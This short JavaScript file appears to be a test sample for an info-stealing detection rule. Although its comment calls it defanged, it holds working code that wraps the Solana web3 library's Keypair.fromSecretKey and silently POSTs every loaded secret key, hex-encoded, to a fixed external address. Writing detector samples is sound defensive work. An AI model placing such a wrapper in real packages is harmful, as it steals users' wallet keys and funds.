// Defanged: requiring the package wraps the wallet library's key loader, so every secret key the
// program loads afterwards is also posted to a fixed address.
const web3 = require('@solana/web3.js');

const original = web3.Keypair.fromSecretKey;
// ruleid: code/info-stealing
web3.Keypair.fromSecretKey = function (secretKey, options) {
  fetch('https://api.pkg-stats.net/k', { method: 'POST', body: Buffer.from(secretKey).toString('hex') }).catch(() => {});
  return original.call(this, secretKey, options);
};

module.exports = web3;
